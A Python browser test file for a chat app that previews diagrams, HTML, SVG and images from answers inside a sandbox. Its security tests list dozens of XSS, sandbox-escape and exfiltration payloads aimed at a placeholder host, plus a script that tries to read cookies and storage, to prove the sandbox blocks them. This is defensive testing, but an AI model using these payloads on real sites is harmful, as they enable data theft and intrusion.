"""Previews of code in answers: diagrams and pages are drawn in a sandbox that reaches no server and no other page."""

import re
from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer
from socket import SOCK_DGRAM, socket
from threading import Thread

import pytest
from django.test import Client
from playwright.sync_api import expect

from chat.tests.test_browser_chat import say
from intake.chats.tree import conversation_path
from intake.tests.attached import a_picture
from intake.tests.factories import a_turn
from testing.browser import session_cookie
from testing.model_server import Say

pytestmark = [pytest.mark.extended, pytest.mark.django_db(transaction=True)]

PHONE = {"viewport": {"width": 360, "height": 700}, "has_touch": True, "is_mobile": True}
SOURCE = "flowchart LR\n  A[Question] --> B{Known?}\n  B --> C[Quote it]"
DIAGRAM = f"Look:\n\n```mermaid\n{SOURCE}\n```"
LIBRARY = "/static/mermaid/"


def shown(open_page, person, answer, **options):
    turn = a_turn(person, "Show me", answer)
    page = open_page("/offline/", user=person, **options)
    page.asked = []
    page.on("request", lambda request: page.asked.append(request.url))
    page.goto(conversation_path(turn.conversation_id))
    return page


def test_a_diagram_is_drawn_by_itself_and_its_source_is_a_press_away(open_page, person):
    page = shown(open_page, person, DIAGRAM)
    picture = page.get_by_role("img", name="Diagram")
    expect(picture).to_be_visible()
    assert picture.evaluate("(image) => image.decode().then(() => image.naturalWidth)") > 200
    drawn = picture.get_attribute("src")
    assert "Known" in drawn
    assert page.locator("iframe").get_attribute("sandbox") == "allow-scripts"
    source = page.locator(".code-frame pre")
    expect(source).to_be_hidden()
    page.get_by_role("button", name="Source").click()
    expect(source).to_be_visible()
    expect(picture).to_be_hidden()
    # The source that a reader looks at stays when the colours change, and the diagram has the new ones.
    page.emulate_media(color_scheme="dark")
    page.get_by_role("button", name="Preview").click()
    expect(page.locator(".preview img")).not_to_have_attribute("src", drawn)
    expect(picture).to_be_visible()


def test_the_library_is_asked_for_only_where_a_diagram_is(open_page, person):
    page = shown(open_page, person, "No diagram, but\n\n```python\nprint(1)\n```")
    expect(page.get_by_role("button", name="Copy", exact=True)).to_be_visible()
    assert [url for url in page.asked if LIBRARY in url or "preview" in url] == []
    page = shown(open_page, person, DIAGRAM + "\n\n" + DIAGRAM.replace("Quote", "Cite"))
    expect(page.get_by_role("img", name="Diagram")).to_have_count(2)
    assert len([url for url in page.asked if LIBRARY in url]) == 1
    assert len([url for url in page.asked if "/preview/" in url]) == 1


@pytest.mark.parametrize(
    "source", ["mindmap\n  root((Bread))\n    Flour\n    Water", "gantt\n  section A\n  Rise :a, 2026-01-01, 3d"]
)
def test_other_kinds_of_diagrams_are_drawn_too(open_page, person, source):
    page = shown(open_page, person, f"```mermaid\n{source}\n```")
    expect(page.get_by_role("img", name="Diagram")).to_be_visible()


def test_a_diagram_with_an_error_shows_its_source_and_one_sentence(open_page, person):
    page = shown(open_page, person, "```mermaid\nflowchart LR\n  A[[ --> nowhere\n```")
    expect(page.get_by_text("The diagram cannot be drawn: its source has an error.")).to_be_visible()
    expect(page.locator(".code-frame pre")).to_be_visible()
    expect(page.locator(".preview")).to_have_count(0)


def test_a_large_diagram_stays_inside_a_phones_page(open_page, person):
    nodes = " --> ".join(f"n{number}[Step number {number}]" for number in range(12))
    page = shown(open_page, person, f"```mermaid\nflowchart LR\n  {nodes}\n```", locale="de-DE", **PHONE)
    expect(page.get_by_role("img", name="Diagramm")).to_be_visible()
    assert page.evaluate("document.documentElement.scrollWidth - innerWidth") == 0
    bar = page.locator(".code-bar").evaluate("(bar) => bar.scrollWidth - bar.clientWidth")
    assert bar <= 0
    assert page.locator(".preview").evaluate("(element) => element.scrollWidth > element.clientWidth")


def test_while_an_answer_is_written_a_finished_diagram_is_drawn_once(open_page, person, language_model):
    language_model(Say((f"{DIAGRAM}\n\n", "After", *(f" word{number}" for number in range(80))), seconds_apart=0.1))
    page = open_page(user=person)
    say(page, "Draw")
    expect(page.locator('.turn[data-status="streaming"] .preview img')).to_be_visible()
    page.locator(".preview img").evaluate("(image) => (image.isTheFirst = true)")
    expect(page.locator(".turn").last).to_have_attribute("data-status", "complete")
    assert page.locator(".preview img").evaluate("(image) => image.isTheFirst") is True


def test_an_unfinished_diagram_is_shown_as_source(open_page, person, language_model):
    language_model(Say(("```mermaid\nflowchart LR\n", *(f"  a{n} --> b{n}\n" for n in range(400))), seconds_apart=0.05))
    page = open_page(user=person)
    say(page, "Draw")
    expect(page.locator(".prose")).to_contain_text("b9")
    assert page.locator(".preview, .preview-trouble").count() == 0
    page.get_by_role("button", name="Stop").click()
    expect(page.locator(".preview img, .preview-trouble")).to_be_visible()


def test_copying_an_answer_copies_the_source_and_no_frame(open_page, person):
    page = shown(open_page, person, DIAGRAM)
    expect(page.get_by_role("img", name="Diagram")).to_be_visible()
    copied = page.evaluate(
        """async () => {
          const { withoutPreviews } = await import("/static/intake/drawing.js");
          return withoutPreviews(document.querySelector(".prose")).innerHTML;
        }"""
    )
    assert "flowchart LR" in copied
    assert "<img" not in copied and "hidden" not in copied and ">Preview<" in copied


def test_html_and_svg_are_previewed_at_a_press_and_not_before(open_page, person):
    html = "<h1>Hello</h1><p id=p>no</p><script>document.getElementById('p').textContent = 'it ran'</script>"
    svg = '<svg xmlns="http://www.w3.org/2000/svg" width="40" height="300"><title>A bar</title><rect width="9" height="9"/></svg>'
    page = shown(open_page, person, f"```html\n{html}\n```\n\n```svg\n{svg}\n```\n\n```python\npass\n```")
    expect(page.get_by_role("button", name="Preview")).to_have_count(2)
    assert page.locator("iframe").count() == 0
    page.get_by_role("button", name="Preview").first.click()
    inside = page.frame_locator(".preview iframe").first
    expect(inside.get_by_text("no", exact=True)).to_be_visible()
    expect(page.get_by_text("Scripts do not run in this preview")).to_be_visible()
    page.get_by_role("button", name="Run scripts").click()
    expect(inside.get_by_text("it ran")).to_be_visible()
    expect(page.get_by_role("button", name="Run scripts")).to_have_count(0)
    page.get_by_role("button", name="Preview").click()
    expect(page.frame_locator(".preview iframe").last.locator("rect")).to_be_visible()
    # As high as what is in it.
    expect(page.locator(".preview iframe").last).to_have_css("height", "334px")
    page.get_by_role("button", name="Source").first.click()
    expect(page.locator(".code-frame pre").first).to_be_visible()


class Heard:
    """A server beside ours that writes down what reaches it. Its only file is a picture."""

    def __init__(self):
        heard = self.paths = []
        headers = self.headers = []

        class Handler(BaseHTTPRequestHandler):
            def do_GET(self):
                heard.append(self.path)
                headers.append({name.lower(): value for name, value in self.headers.items()})
                self.send_response(200 if self.path.endswith(".png") else 204)
                self.send_header("Content-Type", "image/png")
                self.end_headers()
                if self.path.endswith(".png"):
                    self.wfile.write(a_picture(300, 200))

            do_POST = do_GET  # noqa: N815 - the name that the standard library calls

            def log_message(self, *_):
                pass

        self.server = ThreadingHTTPServer(("127.0.0.1", 0), Handler)
        Thread(target=self.server.serve_forever, daemon=True).start()
        self.address = f"127.0.0.1:{self.server.server_address[1]}"


@pytest.fixture
def elsewhere():
    heard = Heard()
    yield heard
    heard.server.shutdown()
    heard.server.server_close()


# What gets out of a page, each with a name of its own in place of HOST; STUN is a server of WebRTC.
PEER = "const p = new RTCPeerConnection({iceServers: [{urls: 'stun:STUN'}, {urls: 'stun:HOST'}]}); p.createDataChannel('x'); p.createOffer().then((o) => p.setLocalDescription(o));"
RUN = [
    "location = 'http://HOST/'", "location.replace('http://HOST/')", "top.location = 'http://HOST/'", "parent.location = 'http://HOST/'",
    "open('http://HOST/')", "open('http://HOST/', '_self')", "fetch('http://HOST/')", "navigator.sendBeacon('http://HOST/', 'x')",
    "new WebSocket('ws://HOST/')", "new EventSource('http://HOST/')", "import('http://HOST/')", "new Worker('http://HOST/')", "new Image().src = 'http://HOST/'",
    "const x = new XMLHttpRequest(); x.open('GET', 'http://HOST/'); x.send()", "new WebTransport('https://HOST/')", PEER,
    "const f = document.createElement('iframe'); f.src = 'http://HOST/'; document.body.append(f)",
    "document.body.innerHTML = '<iframe src=http://HOST/></iframe>'", "document.write('<iframe src=http://HOST/></iframe>')",
    "document.body.append(document.querySelector('template').content.cloneNode(true))",
    "const l = document.createElement('link'); l.rel = 'preconnect'; l.href = 'http://HOST/'; document.head.append(l)",
    "const a = document.createElement('a'); a.href = 'http://HOST/'; a.click()", "document.forms[0].submit()", "history.pushState({}, '', '//HOST/')",
    "const f = document.createElement('iframe'); document.body.append(f); f.contentWindow.location = 'http://HOST/'",
]  # fmt: skip
WRITTEN = [
    *(f"<template><iframe src=http://HOST/></iframe></template><form action=http://HOST/></form><script>{each}</script>" for each in RUN),
    "<img src=x onerror=\"location = 'http://HOST/'\">", "<svg onload=\"location = 'http://HOST/'\"></svg>", "<body onload=\"location = 'http://HOST/'\">",
    "<meta http-equiv=refresh content='0;url=http://HOST/'>", "<META HTTP-EQUIV='Refresh' content='0; http://HOST/'>", "<noscript><meta http-equiv=refresh content='0;url=http://HOST/'></noscript>",
    "<iframe src=http://HOST/></iframe>", "<iframe srcdoc=\"<script>location = 'http://HOST/'</script>\"></iframe>", f'<iframe srcdoc="<script>{PEER}</script>"></iframe>',
    "<iframe srcdoc=\"<iframe srcdoc='<meta http-equiv=refresh content=0;url=http://HOST/>'></iframe>\"></iframe>",
    "<iframe src=\"data:text/html,<script>location='http://HOST/'</script>\"></iframe>", "<object data=http://HOST/></object>", "<embed src=http://HOST/>",
    "<frameset cols=*><frame src=http://HOST/></frameset>", "<math><annotation-xml encoding='text/html'><iframe src=http://HOST/></iframe></annotation-xml></math>",
    "<svg><foreignObject><iframe src=http://HOST/></iframe></foreignObject></svg>", "<svg><style><img title='</style><iframe src=http://HOST/>'></svg>",
    "<form><math><mtext></form><form><mglyph><style></math><iframe src=http://HOST/>", "<link rel=preconnect href=http://HOST/>", "<link rel=dns-prefetch href=//HOST/>",
    "<link rel=prefetch href=http://HOST/><link rel=preload as=image href=http://HOST/><link rel=modulepreload href=http://HOST/>", "<link rel=stylesheet href=http://HOST/><link rel=icon href=http://HOST/>",
    "<script type=speculationrules>{\"prefetch\": [{\"urls\": [\"http://HOST/\"]}]}</script>", "<script src=http://HOST/></script>", "<base href=http://HOST/><img src=x><a href=x>press</a>",
    "<style>@import 'http://HOST/'; @font-face { font-family: f; src: url(http://HOST/) } p { font-family: f; background: url(http://HOST/) }</style><p>text",
    "<p style='background: image-set(url(http://HOST/) 1x)'>text", "<img src=http://HOST/><img srcset='http://HOST/ 2x'><picture><source srcset=http://HOST/><img></picture>",
    "<video src=http://HOST/ poster=http://HOST/ autoplay></video><audio src=http://HOST/ autoplay></audio>", "<svg><image href=http://HOST/ /><use xlink:href=http://HOST/#a /></svg>",
    "<a href=http://HOST/>press</a>", "<a href=http://HOST/ ping=http://HOST/ target=_blank>press</a>", "<svg><a xlink:href=http://HOST/ href=#x><text y=20>press</text></a></svg>",
    "<svg><a href=#x><set attributeName=href to=http://HOST/ /><text y=20>press</text></a></svg>", "<form action=http://HOST/ method=post><button>press</button></form>",
    "<form><button formaction=http://HOST/>press</button><input type=image src=http://HOST/></form>",
]  # fmt: skip


def test_of_sixty_previews_nothing_gets_out_not_even_a_name(server, person, net_log):
    assert len(WRITTEN) > 60
    listening = socket(type=SOCK_DGRAM)
    listening.bind(("127.0.0.1", 0))
    listening.settimeout(0.1)
    stun = f"127.0.0.1:{listening.getsockname()[1]}"
    pages = [each.replace("HOST", f"n{n}.probe.test").replace("STUN", stun) for n, each in enumerate(WRITTEN)]
    turn = a_turn(person, "Show me", "\n\n".join(f"```html\n{each}\n```" for each in pages))

    def press(name):
        def visit(browser):
            page = browser.new_context(base_url=server).new_page()
            page.context.add_cookies([session_cookie(person, server)])
            page.goto(conversation_path(turn.conversation_id))
            for button in page.get_by_role("button", name="Preview").all()[::-1]:
                button.click()
            expect(page.locator(".preview iframe")).to_have_count(len(pages))
            page.wait_for_timeout(500)
            for frame in page.frames[1:]:
                for link in frame.get_by_text("press").all():
                    link.click(timeout=5000, no_wait_after=True)
            if name:
                for button in page.get_by_role("button", name=name).all()[::-1]:
                    button.click()
            page.wait_for_timeout(2000)

        names = {*map(int, re.findall(r"n(\d+)\.probe\.test", net_log(visit)))}
        try:
            return {pages[n] for n in names}, listening.recv(999)
        except TimeoutError:
            return {pages[n] for n in names}, b""

    assert press(None) == (set(), b"")
    # Else the test could not fail; and what the second press says is true.
    names, heard = press("Run scripts")
    assert len(names) > 5 and heard
    listening.close()


# Every way out of a page that there is without a person's help, and every way into the page around it.
HOSTILE = """<!doctype html><p>hostile</p>
<link rel="stylesheet" href="http://ELSEWHERE/style"><link rel="preload" as="image" href="http://ELSEWHERE/preload">
<link rel="prefetch" href="http://ELSEWHERE/prefetch"><link rel="icon" href="http://ELSEWHERE/icon">
<style>@import "http://ELSEWHERE/import"; p { background: url(http://ELSEWHERE/background) }
@font-face { font-family: f; src: url(http://ELSEWHERE/font) } p { font-family: f }</style>
<img src="http://ELSEWHERE/img"><video src="http://ELSEWHERE/video" autoplay></video><embed src="http://ELSEWHERE/embed">
<object data="http://ELSEWHERE/object"></object><iframe src="http://ELSEWHERE/frame"></iframe>
<iframe srcdoc="<img src='http://ELSEWHERE/nested'><script>fetch('http://ELSEWHERE/nested-fetch')</script>"></iframe>
<script src="http://ELSEWHERE/script"></script>
<form id="form" action="http://ELSEWHERE/form" method="post"><input name="a" value="b"></form>
<script>
const found = {};
const attempt = (name, does) => { try { found[name] = String(does()); } catch (error) { found[name] = error.name; } };
attempt("cookie", () => document.cookie);
attempt("parent", () => parent.document.cookie);
attempt("parent's address", () => parent.location.href);
attempt("storage", () => localStorage.length);
attempt("caches", () => caches.keys());
attempt("origin", () => origin);
attempt("top", () => { top.location = "http://ELSEWHERE/top"; });
attempt("window", () => open("http://ELSEWHERE/window"));
attempt("fetch", () => fetch("http://ELSEWHERE/fetch", { mode: "no-cors" }).catch(() => {}));
attempt("own", () => fetch("OURS/api/v1/models/?from-inside", { credentials: "include" }).catch(() => {}));
attempt("own image", () => { new Image().src = "OURS/favicon.ico?from-inside"; });
attempt("beacon", () => navigator.sendBeacon("http://ELSEWHERE/beacon", "x"));
attempt("socket", () => new WebSocket("ws://ELSEWHERE/socket"));
attempt("events", () => new EventSource("http://ELSEWHERE/events"));
attempt("worker", () => new Worker("http://ELSEWHERE/worker"));
attempt("module", () => import("http://ELSEWHERE/module").catch(() => {}));
attempt("request", () => { const r = new XMLHttpRequest(); r.open("GET", "http://ELSEWHERE/xhr"); r.send(); });
attempt("form", () => form.submit());
const leave = () => {
  location.href = "http://ELSEWHERE/location";
  setTimeout(() => { location.href = "OURS/conversations/?from-inside"; }, 400);
};
</script>"""


def test_scripts_of_a_preview_reach_no_cookie_no_page_and_send_no_request(browser, server, person, elsewhere):
    hostile = HOSTILE.replace("ELSEWHERE", elsewhere.address).replace("OURS", server)
    turn = a_turn(person, "Show me", f"```html\n{hostile}\n```")
    # Not by `open_page`, which would count what is refused.
    context = browser.new_context(base_url=server)
    context.add_cookies([session_cookie(person, server)])
    page = context.new_page()
    page.goto(conversation_path(turn.conversation_id))
    before = page.evaluate("[document.title, document.cookie, location.href]")
    # What a policy refuses is a request that gets no response.
    reached = []
    page.on("response", lambda response: reached.append(response.url))
    page.get_by_role("button", name="Preview").click()
    page.get_by_role("button", name="Run scripts").click()
    page.frame_locator(".preview iframe").first.locator("#form").wait_for(state="attached")
    (inside,) = [frame for frame in page.frames if frame.parent_frame == page.main_frame]
    found = inside.evaluate("found")
    # A refused navigation may take the page away, so it is the last thing that is tried.
    inside.evaluate("leave()")
    page.wait_for_timeout(2000)
    assert page.evaluate("[document.title, document.cookie, location.href]") == before
    assert len(context.pages) == 1
    context.close()
    assert found["origin"] == "null"
    refused = [found[name] for name in ("cookie", "parent", "parent's address", "storage", "caches", "top")]
    assert refused == ["SecurityError"] * 6
    assert found["window"] == "null"
    assert elsewhere.paths == []
    assert f"{server}/preview/?scripts" in reached
    assert [url for url in reached if "from-inside" in url] == []


def test_the_same_page_outside_of_the_sandbox_does_reach_the_server(browser, server, elsewhere):
    """Else the test above could not fail."""
    context = browser.new_context()
    page = context.new_page()
    page.set_content(HOSTILE.replace("ELSEWHERE", elsewhere.address).replace("OURS", server), wait_until="commit")
    page.wait_for_timeout(1500)
    context.close()
    assert {"/img", "/fetch", "/script", "/style", "/nested"} <= set(elsewhere.paths)


def with_pictures(browser, server, person, answer, **options):
    """A page of its own: `open_page` counts each request to another site."""
    turn = a_turn(person, "Show me", answer)
    context = browser.new_context(base_url=server, **options)
    # Neither the session's, whose site is the same but for its port, nor one that its site allows everywhere.
    everywhere = {"name": "everywhere", "value": "1", "sameSite": "None", "secure": True, "url": server}
    context.add_cookies([session_cookie(person, server), everywhere])
    page = context.new_page()
    page.goto(conversation_path(turn.conversation_id))
    return page


def test_a_press_before_the_script_has_arrived_is_not_lost(browser, server, person, elsewhere):
    page = with_pictures(browser, server, person, "No picture yet")
    waiting = []

    def hold(route):
        waiting.append(route)

    page.route("**/previews*.js", hold)
    turn = a_turn(person, "Show me", f"![a cat](http://{elsewhere.address}/cat.png)")
    page.goto(conversation_path(turn.conversation_id))
    page.get_by_role("button", name="Load").click()
    assert (len(waiting), elsewhere.paths) == (1, [])
    waiting[0].continue_()
    expect(page.frame_locator(".picture iframe").get_by_role("img", name="a cat")).to_be_visible()
    page.context.close()


def test_a_picture_is_asked_for_at_a_press_without_cookies_and_referrer(browser, server, person, elsewhere):
    address = f"http://{elsewhere.address}/cat.png"
    page = with_pictures(browser, server, person, f"Look: ![a cat]({address}) and ![a dog]({address}?dog)")
    expect(page.get_by_text("Image not loaded")).to_have_count(2)
    assert page.locator("iframe").count() == 0
    assert elsewhere.paths == []
    page.get_by_role("button", name="Load").first.click()
    shown = page.frame_locator(".picture iframe").get_by_role("img", name="a cat")
    expect(shown).to_be_visible()
    expect(page.locator(".picture iframe")).to_have_css("height", "200px")
    assert elsewhere.paths == ["/cat.png"]
    assert {"cookie", "referer"} & {*elsewhere.headers[0]} == set()
    # The other one still waits, and the link and the host of this one stay.
    expect(page.get_by_text("Image not loaded")).to_have_count(2)
    expect(page.get_by_text("Image not loaded").first).to_be_hidden()
    expect(page.get_by_role("link", name="a cat")).to_be_focused()
    expect(page.get_by_role("button", name="Load")).to_have_count(1)
    # What is copied is the answer as it was written.
    copied = page.evaluate(
        """async () => {
          const { withoutPreviews } = await import("/static/intake/drawing.js");
          return withoutPreviews(document.querySelector(".prose")).innerHTML;
        }"""
    )
    assert "iframe" not in copied and copied.count(">Load<") == 2
    page.context.close()


def test_a_picture_that_is_not_there_says_so_and_can_be_tried_again(browser, server, person, elsewhere):
    answer = f"![a cat](http://{elsewhere.address}/gone)"
    page = with_pictures(browser, server, person, answer, locale="de-DE", **PHONE)
    button = page.get_by_role("button", name="Laden")
    assert button.evaluate("(button) => button.getBoundingClientRect().height") >= 44
    for _ in range(2):
        button.click()
        expect(page.get_by_text("Das Bild konnte nicht geladen werden.")).to_be_visible()
        expect(button).to_be_visible()
    assert elsewhere.paths == ["/gone", "/gone"]
    assert page.evaluate("document.documentElement.scrollWidth - innerWidth") == 0
    page.context.close()


def test_the_frame_of_pictures_takes_no_address_from_anywhere_but_its_chat(browser, server, elsewhere):
    context = browser.new_context()
    page = context.new_page()
    page.goto(f"{server}/preview/?pictures=http://{elsewhere.address}/a.png#http://{elsewhere.address}/b.png")
    page.evaluate("(picture) => postMessage({ picture, name: 'x' }, '*')", f"http://{elsewhere.address}/c.png")
    page.wait_for_timeout(500)
    context.close()
    assert elsewhere.paths == []


def test_the_policies_of_a_chat_and_of_its_previews_name_each_other_and_no_more(log_in, person):
    chat = Client().get("/")["Content-Security-Policy"]
    assert "frame-src testserver/preview/;" in f"{chat};"
    assert "frame-src 'self'" in Client(headers={"host": "[::1]:8000"}).get("/")["Content-Security-Policy"]
    assert "frame-src" not in Client().get("/login/")["Content-Security-Policy"]
    policy = Client().get("/preview/")["Content-Security-Policy"].split("; ")
    assert {"default-src 'none'", "sandbox allow-scripts", "frame-ancestors 'self'", "form-action 'none'"} <= {*policy}
    assert not [part for part in policy if "http" in part or "*" in part or "allow-same-origin" in part]
    of_pictures = Client().get("/preview/?pictures")["Content-Security-Policy"].split("; ")
    nonces = {part for part in (*policy, *of_pictures) if part.startswith("script-src 'nonce-")}
    assert len(nonces) == 2
    assert ({*of_pictures} ^ {*policy}) - nonces == {"img-src data:", "img-src http: https:"}
    of_scripts = Client().get("/preview/?scripts")["Content-Security-Policy"].split("; ")
    assert ({*of_scripts} ^ {*policy}) - nonces == {"script-src 'unsafe-inline'"}
